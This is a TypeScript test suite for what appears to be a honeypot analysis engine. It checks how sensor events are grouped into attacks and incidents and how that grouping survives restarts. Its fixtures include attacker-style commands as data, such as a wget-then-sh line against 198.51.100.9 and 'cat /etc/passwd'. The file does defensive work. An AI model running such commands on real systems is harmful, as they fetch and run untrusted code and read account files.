/** Events to attacks and incidents on the real engine: what one pass finds, many small ones find too. */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { OperationalError } from '@apiary/model/errors.ts';
import type { AttackJudgementField } from '@apiary/model/incident-words.ts';
import { findIncidentId } from '../reports/incidents.ts';
import { StateDatabase } from '../state/database.ts';
import { addGrouping, revokeGrouping } from '../state/groupings.ts';
import { makeAttackJudgement } from '../state/judgements.ts';
import { migrate } from '../store/schema.ts';
import { Store } from '../store/store.ts';
import { Analysis } from './analysis.ts';
import type { AttackScope } from './attack-sql.ts';
import { readAttacks } from './attack-table.ts';

interface TestEvent {
  event_id: number;
  segment_id: number;
  sensor_id: number;
  at: string;
  attacker_ip: string;
  action: string;
  service?: string;
  session?: string;
  command?: string;
  fingerprint?: string;
  signature?: string;
  user_agent?: string;
  file_sha256?: string;
  outcome?: string;
  target?: string;
}

const scope: AttackScope = {
  pause_seconds: 3600,
  kept_from_us: 0,
  nets: [
    { honeynet_id: 7, sensors: [1, 2] },
    { honeynet_id: 8, sensors: [3] },
  ],
  honeypots: [
    { honeypot_id: 1, sensors: [1, 4] },
    { honeypot_id: 5, sensors: [5] },
    { honeypot_id: 6, sensors: [6] },
  ],
  gateways: [{ first: '::ffff:192.0.2.1', last: '::ffff:192.0.2.1' }],
};

/** A start looks through what came in the last weeks. */
const collected = new Date().toISOString().slice(0, 19).replace('T', ' ');
const tables = ['event', 'attribution', 'attack', 'attack_event', 'incident', 'incident_attack'];

describe('analysis', () => {
  const directory = mkdtempSync(join(tmpdir(), 'apiary-analysis-'));
  let store: Store;
  let state: StateDatabase;
  before(async () => {
    store = new Store({ directory });
    await store.whenUp();
    await migrate(store, []);
  });
  after(async () => {
    await store.close();
    rmSync(directory, { recursive: true });
  });

  async function begin(): Promise<Analysis> {
    for (const table of tables) await store.command(`TRUNCATE TABLE ${table}`);
    state = new StateDatabase(':memory:');
    return open();
  }
  async function open(engine = store): Promise<Analysis> {
    const analysis = new Analysis({ store: engine, state, scope: () => standing, log: () => undefined });
    await analysis.load();
    return analysis;
  }
  /** What the inventory says now. */
  let standing = scope;
  async function insert(events: readonly TestEvent[]): Promise<void> {
    await store.insertRows(
      'event',
      events.map(({ at, ...event }) => ({
        sensor_type: 'test',
        sensor_table: 'test_lines',
        place: event.event_id,
        generation: 1,
        detect_ts: `2026-03-01 ${at}.000000`,
        collect_ts: collected,
        target_kind: 'computer',
        vantage: 'honeypot',
        ...event,
        attacker_ip: event.attacker_ip.includes(':') ? event.attacker_ip : `::ffff:${event.attacker_ip}`,
      })),
    );
  }
  const attacksNow = () =>
    store.query<{
      attack_id: string;
      service: string;
      cve: string;
      events: string;
      source: string;
      net: number;
    }>(
      'SELECT attack_id, service, cve, events, source, net FROM attack FINAL WHERE is_gone = 0 ORDER BY first_ts, attack_id',
    );
  /** Which events stand together in attacks, and which attacks in incidents, by their earliest event. */
  async function partition(): Promise<unknown> {
    const of_event = await store.query(
      'SELECT event_id, tupleElement(max(assignment), 2) AS attack_id FROM attack_event GROUP BY event_id HAVING attack_id != 0 ORDER BY event_id',
    );
    const of_attack = await store.query(
      `SELECT attack_id, incident_id FROM incident_attack FINAL WHERE attack_id IN (SELECT attack_id FROM attack FINAL WHERE is_gone = 0) ORDER BY attack_id`,
    );
    const incidents = await store.query(
      'SELECT incident_id, attacks, events FROM incident FINAL WHERE is_gone = 0 ORDER BY incident_id',
    );
    return { of_event, of_attack, incidents };
  }

  let id = 0;
  const event = (at: string, attacker_ip: string, more: Partial<TestEvent> = {}): TestEvent => {
    id += 1;
    return {
      event_id: id,
      segment_id: 1,
      sensor_id: 1,
      at,
      attacker_ip,
      action: 'probe',
      service: 'ssh',
      ...more,
    };
  };

  test('a pause of more than an hour ends an attack, on any sensor', async () => {
    const analysis = await begin();
    await insert([
      event('00:00:00', '203.0.113.1'),
      event('00:59:00', '203.0.113.1', { sensor_id: 2 }),
      event('01:59:01', '203.0.113.1'),
      event('00:30:00', '203.0.113.2'),
    ]);
    analysis.note(1n);
    const { attacks } = await analysis.pass();
    assert.equal(attacks, 3);
    assert.deepEqual(
      (await attacksNow()).map(({ events }) => Number(events)),
      [2, 1, 1],
    );
  });

  test('services, named vulnerabilities and fingerprints are attacks of their own; a session names its service once', async () => {
    const analysis = await begin();
    await insert([
      event('00:00:00', '203.0.113.1', { session: 'a', fingerprint: 'f1' }),
      event('00:00:01', '203.0.113.1', { session: 'a', service: '', action: 'authenticate' }),
      event('00:00:02', '203.0.113.1', { session: 'b', service: 'http' }),
      event('00:00:03', '203.0.113.1', {
        session: 'b',
        service: 'http',
        signature: 'ET EXPLOIT CVE-2021-44228',
      }),
      event('00:10:00', '203.0.113.9', { session: 'c', fingerprint: 'f1' }),
      event('00:10:01', '203.0.113.9', { session: 'd', fingerprint: 'f2' }),
      event('00:10:02', '203.0.113.9', { session: 'c', action: 'input', command: 'id' }),
    ]);
    analysis.note(1n);
    await analysis.pass();
    assert.deepEqual(
      (await attacksNow()).map(({ service, cve, events }) => [service, cve, Number(events)]),
      [
        ['ssh', '', 2],
        ['http', '', 1],
        ['http', 'CVE-2021-44228', 1],
        ['ssh', '', 2],
        ['ssh', '', 1],
      ],
    );
  });

  test('a /64 is one source, a private address one within its honeynet, a gateway nobody', async () => {
    const analysis = await begin();
    await insert([
      event('00:00:00', '2001:db8:1:2::1'),
      event('00:00:01', '2001:db8:1:2:ffff::9'),
      event('00:00:02', '2001:db8:1:3::1'),
      event('00:00:03', '10.0.0.5', { sensor_id: 1 }),
      event('00:00:04', '10.0.0.5', { sensor_id: 2 }),
      event('00:00:05', '10.0.0.5', { sensor_id: 3 }),
      event('00:00:05', '10.0.0.5', { sensor_id: 5 }),
      event('00:00:05', '10.0.0.5', { sensor_id: 6 }),
      event('00:00:05', '::1', { sensor_id: 1 }),
      event('00:00:05', '::1', { sensor_id: 3 }),
      event('00:00:06', '192.0.2.1'),
      event('00:00:07', '::'),
    ]);
    analysis.note(1n);
    await analysis.pass();
    assert.deepEqual(
      (await attacksNow()).map(({ source, net, events }) => [source, net, Number(events)]),
      [
        ['2001:db8:1:2::', 0, 2],
        ['2001:db8:1:3::', 0, 1],
        ['::ffff:10.0.0.5', 7, 2],
        ['::ffff:10.0.0.5', 8, 1],
        // Honeypots of no honeynet are places of their own.
        ['::ffff:10.0.0.5', 2 ** 31 + 5, 1],
        ['::ffff:10.0.0.5', 2 ** 31 + 6, 1],
        ['::', 7, 1],
        ['::', 8, 1],
      ],
    );
  });

  test('what changes in the inventory holds for the past too, at the next pass and at the next start', async () => {
    let analysis = await begin();
    await insert([
      event('00:00:00', '203.0.113.1'),
      event('00:40:00', '203.0.113.1'),
      event('00:00:03', '10.0.0.5', { sensor_id: 1 }),
      event('00:00:05', '10.0.0.5', { sensor_id: 3 }),
    ]);
    analysis.note(1n);
    await analysis.pass();
    const found = async () =>
      (await attacksNow()).map(({ source, net, events }) => [source, net, Number(events)]);
    const before = await found();
    assert.equal(before.length, 3);
    try {
      const again = async (more: Partial<AttackScope>, by: 'pass' | 'start'): Promise<unknown[][]> => {
        standing = { ...scope, ...more };
        if (by === 'pass') await analysis.pass();
        else analysis = await open();
        return found();
      };
      for (const by of ['pass', 'start'] as const) {
        // An address turns out to be a gateway's, and the pause another; two honeynets become one.
        const gateways = [{ first: '::ffff:203.0.113.1', last: '::ffff:203.0.113.1' }];
        assert.deepEqual(await again({ gateways }, by), before.slice(1), by);
        assert.equal((await again({ pause_seconds: 1800 }, by)).length, 4, by);
        const nets = [{ honeynet_id: 7, sensors: [1, 2, 3] }];
        assert.deepEqual((await again({ nets }, by)).slice(1), [['::ffff:10.0.0.5', 7, 2]], by);
        assert.deepEqual(await again({}, by), before, by);
      }
    } finally {
      standing = scope;
    }
  });

  test('of values that are many those count that came first, in whatever order they are read', async () => {
    const analysis = await begin();
    // A source that shows the same clients, JSch the last and the first of seven.
    const clients = ['zgrab', 'go', 'libssh', 'paramiko', 'nmap', 'asyncssh', 'SSH-2.0-JSCH-0.1.54'];
    const of = (source: string, list: readonly string[]) =>
      list.map((user_agent, minute) =>
        event(`00:0${minute}:00`, source, { fingerprint: 'aa', session: `${source} ${minute}`, user_agent }),
      );
    const events = [...of('203.0.113.9', clients), ...of('203.0.113.10', clients.toReversed())];
    // One block each, the last first.
    for (const one of events.toReversed()) await insert([one]);
    analysis.note(1n);
    await analysis.pass();
    const found = await store.query<{ attacker_ip: string; families: string[] }>(
      "SELECT replaceOne(toString(attacker_ip), '::ffff:', '') AS attacker_ip, families FROM attack FINAL WHERE is_gone = 0 ORDER BY attacker_ip",
    );
    assert.deepEqual(
      found.map(({ attacker_ip, families }) => [attacker_ip, families.includes('jsch')]),
      [
        ['203.0.113.10', true],
        ['203.0.113.9', false],
      ],
    );
  });

  test('what earlier passes found is read in pieces of any size, each attack once', async () => {
    const analysis = await begin();
    const sources = ['203.0.113.1', '203.0.113.2', '203.0.113.3', '203.0.113.4', '203.0.113.5'];
    await insert(sources.map((source) => event('00:00:00', source)));
    analysis.note(1n);
    await analysis.pass();
    const read = async (rows_at_once: number): Promise<string[]> =>
      (await Array.fromAsync(readAttacks(store, rows_at_once)))
        .flat()
        .map(({ record }) => record.source.replace('::ffff:', ''))
        .sort();
    for (const rows_at_once of [1, 2, 5, 6]) assert.deepEqual(await read(rows_at_once), sources);
  });

  test('a late event joins two attacks; numbers and the time of analysis stay', async () => {
    const analysis = await begin();
    await insert([event('00:00:00', '203.0.113.1'), event('01:30:00', '203.0.113.1')]);
    analysis.note(1n);
    await analysis.pass();
    const [first] = await store.query<{ analysis_ts: string }>(
      'SELECT min(analysis_ts) AS analysis_ts FROM attack_event',
    );
    assert.equal((await attacksNow()).length, 2);
    await insert([event('00:45:00', '203.0.113.1', { segment_id: 2 })]);
    analysis.note(2n);
    await analysis.pass();
    const [one, ...others] = await attacksNow();
    assert.equal(others.length, 0);
    assert.equal(Number(one?.events), 3);
    const times = await store.query<{ analysis_ts: string }>(
      'SELECT min(analysis_ts) AS analysis_ts FROM attack_event GROUP BY event_id ORDER BY analysis_ts',
    );
    assert.equal(times[0]?.analysis_ts, first?.analysis_ts);
    assert.notEqual(times[2]?.analysis_ts, first?.analysis_ts);
    assert.deepEqual(await store.query('SELECT number, attacks FROM incident FINAL WHERE is_gone = 0'), [
      { number: 1, attacks: 1 },
    ]);
  });

  test('an event before the first gives the attack another name, and the incident keeps its number', async () => {
    const analysis = await begin();
    await insert([event('10:00:00', '203.0.113.1'), event('12:00:00', '203.0.113.50')]);
    analysis.note(1n);
    await analysis.pass();
    const numberOf = async (source: string) =>
      (
        await store.query<{ number: number }>(
          `SELECT number FROM incident FINAL WHERE is_gone = 0 AND incident_id IN (SELECT attack_id FROM attack FINAL WHERE is_gone = 0 AND source = toIPv6('::ffff:${source}'))`,
        )
      ).map(({ number }) => number);
    const before_it = await numberOf('203.0.113.1');
    await insert([event('09:30:00', '203.0.113.1', { segment_id: 2 })]);
    analysis.note(2n);
    await analysis.pass();
    assert.deepEqual(await numberOf('203.0.113.1'), before_it);
    // A new start reads it back the same.
    const again = await open();
    await insert([event('09:20:00', '203.0.113.1', { segment_id: 3 })]);
    again.note(3n);
    await again.pass();
    assert.deepEqual(await numberOf('203.0.113.1'), before_it);
  });

  test('many small passes in any order, with restarts, find what one pass finds', async () => {
    let seed = 20_261_123;
    const random = (below: number): number => {
      seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
      return Math.floor((seed / 2_147_483_648) * below);
    };
    const pad = (value: number): string => String(value).padStart(2, '0');
    const events = Array.from({ length: 400 }, (_, index): TestEvent => {
      const source = random(12);
      const kind = random(10);
      return {
        event_id: 1000 + index,
        segment_id: 100 + random(60),
        sensor_id: 1 + random(3),
        at: `${pad(random(24))}:${pad(random(60))}:${pad(random(60))}`,
        attacker_ip:
          source < 2 ? `10.0.0.${source}` : source < 4 ? `2001:db8::${source}` : `203.0.113.${source}`,
        action: kind < 5 ? 'probe' : kind < 8 ? 'authenticate' : kind < 9 ? 'input' : 'download',
        service: ['ssh', 'telnet', ''][random(3)]!,
        session: `s${source}-${random(6)}`,
        command:
          kind === 8
            ? ['uname -a; id', 'wget http://198.51.100.9/x; sh x', 'cat /etc/passwd'][random(3)]!
            : '',
        file_sha256: kind === 9 ? String(random(3)).repeat(64) : '',
        fingerprint: ['', '', 'f1', 'f2'][random(4)]!,
        signature: random(30) === 0 ? 'CVE-2021-44228' : '',
      };
    });
    // A file sensor of the first sensor's honeypot, which knows no addresses.
    for (let index = 0; index < 80; index++)
      events.push({
        event_id: 2000 + index,
        segment_id: 100 + random(60),
        sensor_id: 4,
        at: `${pad(random(24))}:${pad(random(60))}:${pad(random(60))}`,
        attacker_ip: '::',
        action: 'modify',
        service: '',
        target: ['/tmp/x', '/etc/passwd-backup', ''][random(3)]!,
        file_sha256: random(3) === 0 ? String(random(3)).repeat(64) : '',
        command: random(4) === 0 ? 'uname -a; id' : '',
      });
    const whole = await begin();
    await insert(events);
    await whole.rebuild();
    const told = await store.query<{ rule: string; events: string }>(
      'SELECT rule, count() AS events FROM attribution FINAL GROUP BY rule ORDER BY rule',
    );
    assert.equal(
      told.reduce((sum, { events }) => sum + Number(events), 0),
      80,
    );
    // Several rules tell, and of some events nothing does.
    assert.ok(told.length >= 3 && told[0]!.rule === '', JSON.stringify(told));
    const expected = await partition();

    let analysis = await begin();
    const segments = [...Map.groupBy(events, ({ segment_id }) => segment_id)].sort(() => random(3) - 1);
    for (const [index, [segment, list]] of segments.entries()) {
      await insert(list);
      analysis.note(BigInt(segment));
      // Some segments wait for the next pass, and some passes are the first after a start.
      if (index % 3 !== 0) await analysis.pass();
      if (index % 17 === 16) analysis = await open();
    }
    await analysis.pass();
    assert.deepEqual(await partition(), expected);
  });

  test('an event without an address goes to the one who was there, and away from him when there were two', async () => {
    const analysis = await begin();
    const inside = { sensor_id: 4, action: 'modify', service: '' };
    const told = () =>
      store.query<{ rule: string; ip: string }>(
        `SELECT rule, replaceOne(toString(attacker_ip), '::ffff:', '') AS ip FROM attribution FINAL ORDER BY event_id`,
      );
    await insert([
      event('10:00:00', '203.0.113.1', { action: 'authenticate', outcome: 'success', session: 's' }),
      event('10:05:00', '::', { ...inside, target: '/srv/page.html' }),
      event('10:06:00', '::', { ...inside, target: '/tmp/dropper' }),
      event('12:00:00', '::', { ...inside, target: '/srv/page.html' }),
    ]);
    analysis.note(1n);
    await analysis.pass();
    assert.deepEqual(await told(), [
      { rule: 'alone', ip: '203.0.113.1' },
      { rule: 'alone', ip: '203.0.113.1' },
      { rule: '', ip: '::' },
    ]);
    // Without a service they are an attack of their own in the visit of the log-in.
    assert.deepEqual(
      (await attacksNow()).map(({ service, events }) => [service, Number(events)]),
      [
        ['ssh', 1],
        ['', 2],
      ],
    );
    await insert([
      event('10:04:00', '203.0.113.2', { action: 'input', segment_id: 2, command: 'wget -O /tmp/dropper x' }),
    ]);
    analysis.note(2n);
    await analysis.pass();
    assert.deepEqual(await told(), [
      { rule: '', ip: '::' },
      { rule: 'path', ip: '203.0.113.2' },
      { rule: '', ip: '::' },
    ]);
    const left = await store.query<{ events: string }>(
      'SELECT count() AS events FROM (SELECT event_id FROM attack_event GROUP BY event_id HAVING tupleElement(max(assignment), 2) = 0)',
    );
    assert.equal(left[0]?.events, '1');
    assert.deepEqual(
      (await attacksNow()).map(({ source, service, events }) => [source, service, Number(events)]),
      [
        ['::ffff:203.0.113.1', 'ssh', 1],
        ['::ffff:203.0.113.2', 'ssh', 1],
        ['::ffff:203.0.113.2', '', 1],
      ],
    );
  });

  test("a number stays with its incident where that began with an event that turned out to be nobody's", async () => {
    const analysis = await begin();
    const typed = { action: 'input', command: 'cp x /tmp/dropper' };
    const dropped = event('10:00:00', '::', {
      sensor_id: 4,
      action: 'modify',
      service: '',
      target: '/tmp/dropper',
    });
    const own = event('10:00:03', '203.0.113.1', typed);
    await insert([dropped, own]);
    analysis.note(1n);
    await analysis.pass();
    const incidents = () =>
      store.query<{ incident_id: string; number: number }>(
        'SELECT incident_id, number FROM incident FINAL WHERE is_gone = 0 ORDER BY incident_id',
      );
    assert.deepEqual(await incidents(), [{ incident_id: String(dropped.event_id), number: 1 }]);
    const other = event('10:00:04', '203.0.113.2', { ...typed, segment_id: 2 });
    await insert([other]);
    analysis.note(2n);
    await analysis.pass();
    const after = [
      { incident_id: String(own.event_id), number: 1 },
      { incident_id: String(other.event_id), number: 2 },
    ];
    assert.deepEqual(await incidents(), after);
    assert.equal(await findIncidentId({ store, state }, 1), String(own.event_id));
    const again = await open();
    await again.rebuild();
    assert.deepEqual(await incidents(), after);
  });

  test("an event without an address is nobody's where a gateway was active too; a /64 is one attacker", async () => {
    const analysis = await begin();
    const inside = { sensor_id: 4, action: 'modify', service: '' };
    const log_in = { action: 'authenticate', outcome: 'success' };
    await insert([
      event('10:00:00', '203.0.113.1', log_in),
      event('10:01:00', '192.0.2.1', log_in),
      event('10:05:00', '::', { ...inside, target: '/srv/page.html' }),
      // One of the gateway's own sessions.
      event('10:06:00', '192.0.2.1', { action: 'input', sensor_id: 4, session: 'g', command: 'id' }),
      event('10:06:01', '::', { ...inside, session: 'g' }),
      event('14:00:00', '2001:db8::1', log_in),
      event('14:01:00', '2001:db8::2', log_in),
      event('14:05:00', '::', { ...inside, target: '/srv/page.html' }),
    ]);
    analysis.note(1n);
    await analysis.pass();
    assert.deepEqual(
      await store.query('SELECT rule, toString(attacker_ip) AS ip FROM attribution FINAL ORDER BY event_id'),
      [
        { rule: '', ip: '::' },
        { rule: '', ip: '::' },
        { rule: 'alone', ip: '2001:db8::2' },
      ],
    );
  });

  for (const restarted of [true, false])
    test(`a pass that is cut off after any of its writes is made whole by the next${restarted ? ' start' : ''}`, async () => {
      const step = (at: string, ip: string, segment_id: number, more: Partial<TestEvent> = {}) =>
        event(at, ip, { segment_id, ...more });
      const file_sha256 = 'ab'.repeat(32);
      // The second segment joins two attacks, gives one an earlier beginning and links two sources by a file.
      const first = [
        step('00:00:00', '203.0.113.1', 1),
        step('01:30:00', '203.0.113.1', 1),
        step('10:00:00', '203.0.113.2', 1),
        step('11:00:00', '203.0.113.3', 1, { action: 'download', file_sha256 }),
        step('11:10:00', '::', 1, { action: 'modify', sensor_id: 4, service: '' }),
        step('12:10:00', '::', 1, { action: 'modify', sensor_id: 4, service: '' }),
      ];
      const second = [
        step('00:45:00', '203.0.113.1', 2),
        step('09:30:00', '203.0.113.2', 2),
        step('12:00:00', '203.0.113.4', 2, { action: 'download', file_sha256 }),
        // It takes the first nameless event away, and gives the second one to somebody.
        step('11:05:00', '203.0.113.5', 2, { action: 'input', command: 'id' }),
      ];
      const whole = await begin();
      await insert([...first, ...second]);
      await whole.rebuild();
      const expected = await partition();

      for (let writes = 0, cut = true; cut; writes += 1) {
        let analysis = await begin();
        await insert(first);
        analysis.note(1n);
        await analysis.pass();
        await insert(second);
        let left = writes;
        cut = false;
        const failing = new Proxy(store, {
          get: (target, name) => {
            const member = Reflect.get(target, name, target) as unknown;
            if (typeof member !== 'function') return member;
            return async (...values: unknown[]) => {
              const is_write = name === 'insertRows' || String(values[0]).startsWith('INSERT');
              if (is_write && left === 0) {
                cut = true;
                throw new OperationalError('engine_down', 'gone');
              }
              if (is_write) left -= 1;
              return (member as (...all: unknown[]) => unknown).apply(target, values);
            };
          },
        });
        analysis = await open(failing);
        analysis.note(2n);
        await analysis.pass().catch(() => undefined);
        left = Number.POSITIVE_INFINITY;
        if (restarted) analysis = await open();
        await analysis.pass();
        assert.deepEqual(await partition(), expected, `cut after ${writes} writes`);
        assert.ok(writes < 50);
      }
    });

  test('what people decided of an attack counts before the rules, whatever comes later, until it is taken back', async () => {
    let analysis = await begin();
    const typed = event('10:00:00', '203.0.113.1', { action: 'input', command: 'uname -a' });
    await insert([typed, event('10:00:05', '203.0.113.1', { action: 'input', command: 'id' })]);
    analysis.note(1n);
    await analysis.pass();
    const now = async () => {
      const [attack] = await store.query<
        Record<'attack_id' | 'tool' | 'weakness' | 'stage' | 'evidence', string> & {
          tool_confidence: number;
          results: string[];
        }
      >(
        'SELECT attack_id, tool, tool_confidence, weakness, stage, results, evidence FROM attack FINAL WHERE is_gone = 0',
      );
      const [incident] = await store.query(
        'SELECT stage, tools, number FROM incident FINAL WHERE is_gone = 0',
      );
      const { evidence, tool_confidence, ...words } = attack!;
      const { evidence: reasons, rules } = JSON.parse(evidence) as {
        evidence: { rule: string; because: string }[];
        rules?: object;
      };
      const persons = reasons.filter(({ rule }) => rule === 'person').length;
      return { ...words, confidence: Number(tool_confidence), incident, persons, rules };
    };
    const by_rules = await now();
    assert.deepEqual([by_rules.tool, by_rules.stage, by_rules.persons], ['script or program', 'acted', 0]);
    const decide = (field: AttackJudgementField, value: string, anchor = String(typed.event_id)): void =>
      makeAttackJudgement(state, 'eva', anchor, field, value, 0);
    decide('tool', 'user command');
    decide('weakness', 'design');
    decide('stage', 'spread from here');
    decide('results', 'theft of resources, increased access');
    decide('comment', 'it looked so');
    await analysis.regroup();
    const { tool, confidence, weakness, stage, results } = by_rules;
    const decided = {
      ...{ attack_id: String(typed.event_id), tool: 'user command', weakness: 'design' },
      ...{ stage: 'spread from here', results: ['theft of resources', 'increased access'], confidence: 1 },
      incident: { stage: 'spread from here', tools: ['user command'], number: 1 },
      ...{ persons: 4, rules: { tool, tool_confidence: confidence, weakness, stage, results } },
    };
    assert.deepEqual(await now(), decided);

    // A late event gives the attack another beginning; a new process finds the same, and all anew too.
    const earlier = event('09:59:00', '203.0.113.1', { segment_id: 2 });
    await insert([earlier]);
    analysis.note(2n);
    await analysis.pass();
    const renamed = { ...decided, attack_id: String(earlier.event_id) };
    assert.deepEqual(await now(), { ...renamed, rules: (await now()).rules });
    await analysis.stop();
    analysis = await open();
    await analysis.rebuild();
    assert.deepEqual(await now(), { ...renamed, rules: (await now()).rules });

    // Said while no analysis ran: the next start finds it.
    await analysis.stop();
    for (const field of ['tool', 'weakness', 'stage'] as const) decide(field, '');
    decide('results', 'none', String(earlier.event_id));
    analysis = await open();
    const back = await now();
    assert.deepEqual(
      [back.tool, back.weakness, back.stage, back.results, back.persons],
      [by_rules.tool, by_rules.weakness, by_rules.stage, [], 1],
    );
    assert.deepEqual(back.incident, { stage: 'acted', tools: ['script or program'], number: 1 });
    await analysis.stop();
  });

  test('what people joined and set apart holds, whatever comes later, until it is taken back', async () => {
    let analysis = await begin();
    // Three sources with nothing in common, one of them with two services.
    const [one, two, three] = [
      event('00:00:00', '203.0.113.1'),
      event('00:10:00', '203.0.113.2'),
      event('00:20:00', '203.0.113.3'),
    ];
    const other = event('00:21:00', '203.0.113.3', { service: 'telnet' });
    await insert([one, two, three, other]);
    analysis.note(1n);
    await analysis.pass();
    const id_of = (which: TestEvent): string => String(which.event_id);
    const homes = async (): Promise<Record<string, string>> => {
      const rows = await store.query<{ attack_id: string; incident_id: string }>(
        `SELECT attack_id, incident_id FROM incident_attack FINAL WHERE incident_id IN (SELECT incident_id FROM incident FINAL WHERE is_gone = 0)`,
      );
      return Object.fromEntries(rows.map(({ attack_id, incident_id }) => [attack_id, incident_id]));
    };
    const numbers = async (): Promise<Record<string, number>> => {
      const rows = await store.query<{ incident_id: string; number: number }>(
        'SELECT incident_id, number FROM incident FINAL WHERE is_gone = 0 ORDER BY incident_id',
      );
      return Object.fromEntries(rows.map(({ incident_id, number }) => [incident_id, Number(number)]));
    };
    const [a, b, c, d] = [one, two, three, other].map(id_of) as [string, string, string, string];
    assert.deepEqual(await homes(), { [a]: a, [b]: b, [c]: c, [d]: c });
    const first_numbers = await numbers();

    const joined = addGrouping(state, 'eva', { kind: 'join', events: [a, b], reason: '' }, 0);
    await analysis.regroup();
    assert.deepEqual(await homes(), { [a]: a, [b]: a, [c]: c, [d]: c });
    assert.deepEqual(await numbers(), { [a]: first_numbers[a], [c]: first_numbers[c] });
    const split = addGrouping(state, 'eva', { kind: 'split', events: [d], reason: '' }, 0);
    await analysis.regroup();
    assert.deepEqual(await homes(), { [a]: a, [b]: a, [c]: c, [d]: d });
    const links = await store.query<{ links: string }>(
      `SELECT links FROM incident_attack FINAL WHERE attack_id IN (${b}, ${d}) ORDER BY attack_id`,
    );
    assert.deepEqual(
      links.map(({ links: text }) =>
        (JSON.parse(text) as { kind: string; value: string }[]).map(({ kind }) => kind),
      ),
      [['person'], []],
      'one is tied by a person, the other by nothing any more',
    );

    // A late event of the joined one, and one that begins the attack that was set apart earlier.
    const late = event('00:11:00', '203.0.113.2', { segment_id: 2 });
    const earlier = event('00:20:30', '203.0.113.3', { service: 'telnet', segment_id: 2 });
    await insert([late, earlier]);
    analysis.note(2n);
    await analysis.pass();
    const begins = id_of(earlier);
    assert.deepEqual(await homes(), { [a]: a, [b]: a, [c]: c, [begins]: begins });
    const before = await numbers();
    assert.equal(before[begins], Math.max(...Object.values(before)), 'the number stays with its incident');

    // A new process, and all anew, find the same.
    const stood = await partition();
    await analysis.stop();
    analysis = await open();
    await analysis.rebuild();
    assert.deepEqual(await partition(), stood);
    assert.deepEqual(await numbers(), before);

    // Said while no analysis ran: the next start finds it.
    await analysis.stop();
    revokeGrouping(state, 'eva', joined, 1);
    analysis = await open();
    assert.deepEqual(await homes(), { [a]: a, [b]: b, [c]: c, [begins]: begins });
    assert.equal((await numbers())[b], first_numbers[b], 'it has its number again');
    revokeGrouping(state, 'eva', split, 1);
    await analysis.regroup();
    assert.deepEqual(await homes(), { [a]: a, [b]: b, [c]: c, [begins]: c });
    await analysis.stop();
  });
});
